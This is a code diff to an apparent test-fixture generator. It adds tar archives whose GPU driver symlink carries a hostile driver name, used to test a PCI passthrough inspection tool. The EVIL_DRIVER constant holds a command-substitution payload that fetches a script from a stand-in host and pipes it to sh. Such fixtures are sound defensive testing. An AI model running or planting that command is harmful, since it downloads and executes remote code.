@@ -309,6 +309,21 @@ def evil_names(out):
     ])
 
 
+EVIL_DRIVER = "nv'$(curl -s evil.example|sh)'"
+
+
+def evil_driver(out, ids_line):
+    """A target held by a driver whose name is a shell command (issue 20,
+    item 2), with or without a vfio-pci ids line for its id."""
+    members = base_members() + [
+        (GPU + "/driver", "link", "../../../../../bus/pci/drivers/" + EVIL_DRIVER),
+        ("etc/pve/qemu-server/100.conf", "file", b"hostpci0: 0000:01:00.0\n"),
+    ]
+    if ids_line:
+        members.append(("etc/modprobe.d/vfio.conf", "file", b"options vfio-pci ids=10de:1b80\n"))
+    write_tar(out, members)
+
+
 SMALL = ("traversal", "nul_name", "symlinks", "evil_names", "lying_manifest", "hops_over", "config_over",
          "path_over", "params_over")
 
@@ -360,6 +375,8 @@ def make_all(outdir, sample, outside):
     truncated(os.path.join(outdir, "truncated.tar.gz"), sample)
     lying_manifest(os.path.join(outdir, "lying-manifest.tar.gz"))
     evil_names(os.path.join(outdir, "evil-names.tar.gz"))
+    evil_driver(os.path.join(outdir, "evil-driver.tar.gz"), False)
+    evil_driver(os.path.join(outdir, "evil-driver-ids.tar.gz"), True)
 
 
 if __name__ == "__main__":
